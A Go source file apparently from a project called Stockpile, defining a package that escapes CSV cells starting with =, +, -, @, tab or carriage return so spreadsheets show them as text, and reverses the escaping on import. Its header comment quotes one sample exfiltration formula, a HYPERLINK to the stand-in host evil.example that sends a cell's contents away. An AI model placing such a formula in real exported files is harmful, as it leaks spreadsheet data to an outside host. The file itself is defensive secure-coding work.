// Package csvcell keeps the text Stockpile writes to CSV files from being
// run as formulas when a spreadsheet opens them (CSV or formula
// injection): a norm's source of
//
//	=HYPERLINK("http://evil.example/?"&A1,"x")
//
// would otherwise be a live link that sends the sheet's cells away.
//
// The rule, the one OWASP gives: a cell whose text starts with =, +, -,
// @, a tab or a carriage return is shown as text by putting an apostrophe
// (') in front of it, unless it is a plain decimal number such as -2 or
// +0.5, which a spreadsheet reads as that number and nothing else.
// [Neutralise] applies the rule to a cell written; [Restore] undoes it on
// a cell read, so that a file exported and imported again gives back the
// same text, byte for byte.
package csvcell

import (
	"regexp"
	"strings"
)

// number is a plain decimal, as a spreadsheet reads it: optional sign,
// digits with an optional fraction, optional exponent.
var number = regexp.MustCompile(`^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$`)

// risky reports whether a spreadsheet would take s, as it stands, for a
// formula or a command.
func risky(s string) bool {
	if s == "" || !strings.ContainsRune("=+-@\t\r", rune(s[0])) {
		return false
	}
	return !number.MatchString(s)
}

// quoted reports whether [Neutralise] puts an apostrophe in front of s:
// when s is risky, and when s already starts with apostrophes in front of
// risky text, so that [Restore] can tell the apostrophe Neutralise added
// from one that is part of the text.
func quoted(s string) bool {
	return risky(strings.TrimLeft(s, "'"))
}

// Neutralise returns s as a spreadsheet will show it as text: with an
// apostrophe in front when it would otherwise be taken for a formula,
// and as it is otherwise (numbers such as -2 and -0.5 included).
func Neutralise(s string) string {
	if quoted(s) {
		return "'" + s
	}
	return s
}

// Restore returns the text a cell written by [Neutralise] came from: it
// takes the apostrophe Neutralise added away and leaves every other cell
// as it is, so Restore(Neutralise(s)) == s for every s. A cell an editor
// saved with a formula in plain (=A1, which the spreadsheet would have
// run) is returned as it is too: the importer's own checks decide whether
// that is acceptable text.
func Restore(s string) string {
	if strings.HasPrefix(s, "'") && quoted(s[1:]) {
		return s[1:]
	}
	return s
}
